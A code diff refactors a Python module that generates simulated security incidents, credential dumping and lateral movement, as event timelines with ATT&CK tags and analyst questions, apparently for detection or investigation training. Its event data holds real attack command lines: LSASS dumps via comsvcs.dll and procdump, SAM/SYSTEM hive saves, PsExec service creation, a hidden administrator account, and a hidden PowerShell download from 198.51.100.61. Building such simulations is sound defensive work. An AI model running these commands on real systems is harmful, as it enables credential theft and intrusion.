@@ -2,13 +2,13 @@
 
 from __future__ import annotations
 
-from datetime import timedelta
+from datetime import datetime, timedelta
 
 from .calendar import moment
 from .processes import Process, standing
 from .stock import Stock
 from .story import Story
-from .tenant import SYSTEM, Tenant
+from .tenant import SYSTEM, Host, Tenant
 
 __all__ = ["credential_dumping", "lateral_movement", "ransomware"]
 
@@ -41,8 +41,23 @@ def credential_dumping(stock: Stock, company: Tenant) -> Story:
         "T1057",
         "the process id of LSASS is looked up",
     )
+    dump = _dump_by_library(story, service, at + timedelta(seconds=95))
+    _dump_by_tool(story, service, at + timedelta(minutes=4))
+    story.alert(
+        at + timedelta(minutes=7),
+        "Suspicious access to LSASS memory",
+        "High",
+        "CredentialAccess",
+        "T1003.001",
+        process=dump,
+        account=service.actor,
+    )
+    return story
+
+
+def _dump_by_library(story: Story, service: Process, at: datetime) -> Process:
     shell = story.process(
-        at + timedelta(seconds=95),
+        at,
         service,
         "cmd.exe",
         rf'"{_SYSTEM32}\cmd.exe" /c rundll32.exe {_SYSTEM32}\comsvcs.dll, MiniDump 712 C:\Windows\Temp\dbg.bin full',
@@ -51,7 +66,7 @@ def credential_dumping(stock: Stock, company: Tenant) -> Story:
         integrity="High",
     )
     dump = story.process(
-        at + timedelta(seconds=96),
+        at + timedelta(seconds=1),
         shell,
         "rundll32.exe",
         rf"rundll32.exe {_SYSTEM32}\comsvcs.dll, MiniDump 712 C:\Windows\Temp\dbg.bin full",
@@ -59,9 +74,13 @@ def credential_dumping(stock: Stock, company: Tenant) -> Story:
         "comsvcs.dll dumps the memory of LSASS",
         actor=SYSTEM,
     )
-    story.file(at + timedelta(seconds=98), dump, r"C:\Windows\Temp\dbg.bin", "T1003.001", "the dump is written")
+    story.file(at + timedelta(seconds=3), dump, r"C:\Windows\Temp\dbg.bin", "T1003.001", "the dump is written")
+    return dump
+
+
+def _dump_by_tool(story: Story, service: Process, at: datetime) -> None:
     shell = story.process(
-        at + timedelta(minutes=4),
+        at,
         service,
         "cmd.exe",
         rf'"{_SYSTEM32}\cmd.exe"',
@@ -70,7 +89,7 @@ def credential_dumping(stock: Stock, company: Tenant) -> Story:
         integrity="High",
     )
     story.file(
-        at + timedelta(minutes=4, seconds=9),
+        at + timedelta(seconds=9),
         shell,
         r"C:\Windows\Temp\pd64.exe",
         "T1105",
@@ -80,7 +99,7 @@ def credential_dumping(stock: Stock, company: Tenant) -> Story:
         renamed="procdump64.exe",
     )
     second = story.process(
-        at + timedelta(minutes=4, seconds=20),
+        at + timedelta(seconds=20),
         shell,
         "pd64.exe",
         r"C:\Windows\Temp\pd64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp",
@@ -90,7 +109,7 @@ def credential_dumping(stock: Stock, company: Tenant) -> Story:
         renamed="procdump64.exe",
     )
     story.file(
-        at + timedelta(minutes=4, seconds=23),
+        at + timedelta(seconds=23),
         second,
         r"C:\Windows\Temp\lsass.dmp",
         "T1003.001",
@@ -98,23 +117,13 @@ def credential_dumping(stock: Stock, company: Tenant) -> Story:
     )
     for hive in ("SAM", "SYSTEM"):
         story.process(
-            at + timedelta(minutes=5, seconds=len(hive)),
+            at + timedelta(seconds=60 + len(hive)),
             shell,
             "reg.exe",
             rf"reg save HKLM\{hive} C:\Windows\Temp\{hive.lower()}.hiv /y",
             "T1003.002",
             f"the {hive} hive is saved",
         )
-    story.alert(
-        at + timedelta(minutes=7),
-        "Suspicious access to LSASS memory",
-        "High",
-        "CredentialAccess",
-        "T1003.001",
-        process=dump,
-        account=company.services["svc-sql"],
-    )
-    return story
 
 
 def lateral_movement(stock: Stock, company: Tenant) -> Story:
@@ -123,8 +132,7 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
         stock, "lateral-movement-fs01", "incident", "From SQL01 to FS01 by a remote service and to APP01 by WMI",
         "Is there any sign of lateral movement to FS01 on 6 March?", "Where did adm-erik's account log on from SQL01?",
     )  # fmt: skip
-    sql, files, app = company.hosts["SQL01"], company.hosts["FS01"], company.hosts["APP01"]
-    erik, at = company.accounts["adm-erik"], moment(6, "01:22:10")
+    sql, at = company.hosts["SQL01"], moment(6, "01:22:10")
     shell = story.process(
         at,
         standing(sql, "sqlservr.exe", company.services["svc-sql"]),
@@ -134,8 +142,25 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
         "a shell under SQL Server",
         integrity="High",
     )
+    remote = _service_on(story, shell, company, at + timedelta(seconds=30))
+    _wmi_to_app(story, shell, company, at + timedelta(minutes=6))
+    story.alert(
+        at + timedelta(minutes=9),
+        "Suspicious remote service creation",
+        "Medium",
+        "LateralMovement",
+        "T1569.002 T1021.002",
+        process=remote,
+        account=company.accounts["adm-erik"],
+        address=sql.address,
+    )
+    return story
+
+
+def _service_on(story: Story, shell: Process, company: Tenant, at: datetime) -> Process:
+    files = company.hosts["FS01"]
     sender = story.process(
-        at + timedelta(seconds=30),
+        at,
         shell,
         "ps64.exe",
         r"C:\Windows\Temp\ps64.exe \\FS01 -accepteula -s -d cmd.exe /c C:\Windows\Temp\up.bat",
@@ -144,20 +169,24 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
         folder=r"C:\Windows\Temp",
         renamed="PsExec64.exe",
     )
-    story.connect(at + timedelta(seconds=31), sender, files.address, 445, "T1021.002", "SMB from SQL01 to FS01")
+    story.connect(at + timedelta(seconds=1), sender, files.address, 445, "T1021.002", "SMB from SQL01 to FS01")
     story.logon(
-        at + timedelta(seconds=31),
+        at + timedelta(seconds=1),
         files,
-        erik,
+        company.accounts["adm-erik"],
         "Network",
-        sql,
+        shell.host,
         "T1550.002 T1021.002",
         "the administrator's account logs on by NTLM from a database server",
         admin=True,
     )
+    return _started_service(story, files, at + timedelta(seconds=2))
+
+
+def _started_service(story: Story, files: Host, at: datetime) -> Process:
     system = standing(files, "System", SYSTEM)
     story.file(
-        at + timedelta(seconds=32),
+        at,
         system,
         r"C:\Windows\PSEXESVC.exe",
         "T1570 T1021.002",
@@ -165,7 +194,7 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
     )
     services = standing(files, "services.exe", SYSTEM)
     story.registry(
-        at + timedelta(seconds=32),
+        at,
         services,
         r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\PSEXESVC",
         "ImagePath",
@@ -174,7 +203,7 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
         "a service is created",
     )
     remote = story.process(
-        at + timedelta(seconds=33),
+        at + timedelta(seconds=1),
         services,
         "PSEXESVC.exe",
         r"C:\Windows\PSEXESVC.exe",
@@ -182,7 +211,7 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
         "the service starts",
     )
     command = story.process(
-        at + timedelta(seconds=34),
+        at + timedelta(seconds=2),
         remote,
         "cmd.exe",
         r"cmd.exe /c C:\Windows\Temp\up.bat",
@@ -190,45 +219,51 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
         "it runs a batch file as SYSTEM",
     )
     story.process(
-        at + timedelta(seconds=36),
+        at + timedelta(seconds=4),
         command,
         "net.exe",
         "net localgroup Administrators helpdesk$ /add",
         "T1098.007",
         "a hidden account becomes administrator",
     )
+    return remote
+
+
+def _wmi_to_app(story: Story, shell: Process, company: Tenant, at: datetime) -> None:
+    app, erik = company.hosts["APP01"], company.accounts["adm-erik"]
+    inner = r"powershell -nop -w hidden -c iwr http://198.51.100.61/b -OutFile C:\ProgramData\b.exe"
     wmi = story.process(
-        at + timedelta(minutes=6),
+        at,
         shell,
         "wmic.exe",
-        r'wmic /node:APP01 /user:CONTOSO\adm-erik process call create "powershell -nop -w hidden -c iwr http://198.51.100.61/b -OutFile C:\ProgramData\b.exe"',
+        rf'wmic /node:APP01 /user:CONTOSO\adm-erik process call create "{inner}"',
         "T1047",
         "WMI starts a command on APP01",
     )
-    story.connect(at + timedelta(minutes=6, seconds=1), wmi, app.address, 135, "T1047", "RPC from SQL01 to APP01")
+    story.connect(at + timedelta(seconds=1), wmi, app.address, 135, "T1047", "RPC from SQL01 to APP01")
     story.logon(
-        at + timedelta(minutes=6, seconds=1),
+        at + timedelta(seconds=1),
         app,
         erik,
         "Network",
-        sql,
+        shell.host,
         "T1047 T1550.002",
         "the administrator's account logs on to APP01",
         admin=True,
     )
     host = standing(app, "WmiPrvSE.exe", SYSTEM)
     loader = story.process(
-        at + timedelta(minutes=6, seconds=2),
+        at + timedelta(seconds=2),
         host,
         "powershell.exe",
-        r"powershell -nop -w hidden -c iwr http://198.51.100.61/b -OutFile C:\ProgramData\b.exe",
+        inner,
         "T1047 T1059.001 T1105",
         "the WMI host starts PowerShell",
         actor=erik,
         integrity="High",
     )
     story.connect(
-        at + timedelta(minutes=6, seconds=4),
+        at + timedelta(seconds=4),
         loader,
         "198.51.100.61",
         80,
@@ -236,20 +271,7 @@ def lateral_movement(stock: Stock, company: Tenant) -> Story:
         "a program is fetched",
         url="http://198.51.100.61/b",
     )
-    story.file(
-        at + timedelta(minutes=6, seconds=5), loader, r"C:\ProgramData\b.exe", "T1105", "it is written to ProgramData"
-    )
-    story.alert(
-        at + timedelta(minutes=9),
-        "Suspicious remote service creation",
-        "Medium",
-        "LateralMovement",
-        "T1569.002 T1021.002",
-        process=remote,
-        account=erik,
-        address=sql.address,
-    )
-    return story
+    story.file(at + timedelta(seconds=5), loader, r"C:\ProgramData\b.exe", "T1105", "it is written to ProgramData")
 
 
 _SERVICES = ("MSSQLSERVER", "VeeamBackupSvc", "SQLWriter", "BackupExecAgentAccelerator", "Sense", "wbengine", "vss")
